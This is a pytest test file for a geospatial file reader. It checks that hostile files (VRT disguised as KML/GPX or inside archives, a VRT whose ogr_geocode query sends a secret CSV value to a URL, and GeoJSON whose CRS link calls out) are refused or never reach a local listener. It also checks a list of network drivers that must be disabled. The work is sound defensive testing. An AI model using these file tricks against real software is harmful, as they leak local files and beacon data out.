"""Hostile files (issue 20, reading side): a stranger's file may not read other local files,
reach the network, escape an archive, exhaust memory or hang the reader.

Every fixture here is invented for the test (a "secret" CSV, VRT files, bombs); none is real data.
"""
import socket
import threading
import zipfile

import pytest

import fixtures_io as fx
from jjjmap.io import LayerLoadError, convert, describe, open_layer

SECRET = "TOPSECRET-4711"   # invented marker: must never come out of a read


class Listener:
    """A TCP socket on 127.0.0.1 that records every connection made to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0                 # counted at accept time, in accept order
        self.flushes = 0
        self.requests: list[bytes] = []   # what the callers sent (for the failure message)
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            threading.Thread(target=self._handle, args=(conn, self.accepted), daemon=True).start()

    def _handle(self, conn, number):
        with conn:
            conn.settimeout(5)
            try:
                data = conn.recv(4096)
                if data.startswith(b"JJJMAP-FLUSH"):
                    conn.sendall(str(number - 1).encode() + b"\n")
                    return
                self.requests.append(data)
                conn.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass

    def connections(self) -> int:
        """How many connections were made before this call: our own marker connection is
        accepted after every earlier one (the listen queue is in order), so no sleeping."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as c:
            c.sendall(b"JJJMAP-FLUSH")
            before = int(c.makefile().readline())
        earlier_flushes, self.flushes = self.flushes, self.flushes + 1
        return before - earlier_flushes

    def close(self):
        self.sock.close()


@pytest.fixture
def listener():
    srv = Listener()
    yield srv
    srv.close()


@pytest.fixture
def secret_csv(tmp_path):
    p = tmp_path / "private" / "people.csv"
    p.parent.mkdir()
    p.write_text(f"id,secret,lon,lat\n1,{SECRET},116.4,39.9\n", encoding="utf-8")
    return p


def vrt_text(secret_csv, sql=None) -> str:
    src = (f'<SrcSQL dialect="SQLite">{sql}</SrcSQL>' if sql else
           f"<SrcLayer>{secret_csv.stem}</SrcLayer>")
    return ("<OGRVRTDataSource>\n"
            '  <OGRVRTLayer name="marks">\n'
            f"    <SrcDataSource>{secret_csv}</SrcDataSource>\n"
            f"    {src}\n"
            "    <GeometryType>wkbPoint</GeometryType>\n"
            '    <GeometryField encoding="PointFromColumns" x="lon" y="lat"/>\n'
            "  </OGRVRTLayer>\n"
            "</OGRVRTDataSource>\n")


def _refused(fn, *args, **kwargs) -> str:
    with pytest.raises(LayerLoadError) as info:
        fn(*args, **kwargs)
    msg = str(info.value)
    assert SECRET not in msg
    return msg


@pytest.mark.parametrize("name", ["marks.kml", "walk.gpx"])
def test_vrt_disguised_as_kml_or_gpx_never_reads_the_local_file(tmp_path, secret_csv, name):
    evil = tmp_path / name
    evil.write_text(vrt_text(secret_csv), encoding="utf-8")
    msg = _refused(open_layer, evil)
    assert name in msg and "does not open" in msg
    _refused(describe, evil)
    out = tmp_path / "out.geojson"
    _refused(convert, evil, out)
    assert not out.exists()


def test_vrt_inside_kmz_and_zip_is_refused(tmp_path, secret_csv):
    for name, member in (("evil.kmz", "doc.kml"), ("evil.zip", "marks.gpx")):
        arc = tmp_path / name
        with zipfile.ZipFile(arc, "w") as zf:
            zf.writestr(member, vrt_text(secret_csv))
        _refused(open_layer, arc)
        _refused(describe, arc)


def test_vrt_with_ogr_geocode_sends_nothing(tmp_path, secret_csv, listener):
    sql = (f"SELECT id, lon, lat, ogr_geocode(secret, 'raw', "
           f"'QUERY_TEMPLATE={listener.url}/?q=%s', 'SERVICE=OSM_NOMINATIM') AS g FROM "
           f"{secret_csv.stem}")
    evil = tmp_path / "exfil.kml"
    evil.write_text(vrt_text(secret_csv, sql), encoding="utf-8")
    _refused(open_layer, evil)
    _refused(describe, evil)
    assert listener.connections() == 0, listener.requests


def test_no_vrt_or_network_driver_is_left(tmp_path):
    import pyogrio

    open_layer(fx.geojson(tmp_path))
    drivers = set(pyogrio.list_drivers())
    for name in ("OGR_VRT", "GML", "WFS", "OAPIF", "HTTP", "SQLite", "LIBKML", "CSV", "CSW",
                 "Elasticsearch", "Carto", "NGW", "PLSCENES", "EEDA", "OGCAPI", "GDALG"):
        assert name not in drivers
    assert {"ESRI Shapefile", "GeoJSON", "GPKG", "KML", "GPX", "FlatGeobuf"} <= drivers


def _link_geojson(path, url, where="collection"):
    crs = '{"type":"link","properties":{"href":"%s/beacon","type":"proj4"}}' % url
    geom = '{"type":"Point","coordinates":[116.4,39.9]%s}' % (
        ',"crs":' + crs if where == "geometry" else "")
    top = ',"crs":' + crs if where == "collection" else ""
    path.write_text('{"type":"FeatureCollection"%s,"features":[{"type":"Feature",'
                    '"properties":{"a":1},"geometry":%s}]}' % (top, geom), encoding="utf-8")
    return path


@pytest.mark.parametrize("where", ["collection", "geometry"])
def test_geojson_crs_link_is_never_fetched(tmp_path, listener, where):
    path = _link_geojson(tmp_path / f"beacon_{where}.geojson", listener.url, where)
    try:
        layers = open_layer(path)
        assert len(layers[0].gdf) == 1
    except LayerLoadError:
        pass  # refusing the file is fine too; calling out is not
    try:
        describe(path)
    except LayerLoadError:
        pass
    assert listener.connections() == 0, listener.requests


def test_geojson_crs_link_inside_zip_is_never_fetched(tmp_path, listener):
    inner = _link_geojson(tmp_path / "b.geojson", listener.url)
    arc = tmp_path / "beacon.zip"
    with zipfile.ZipFile(arc, "w") as zf:
        zf.write(inner, "b.geojson")
    try:
        open_layer(arc)
    except LayerLoadError:
        pass
    assert listener.connections() == 0, listener.requests
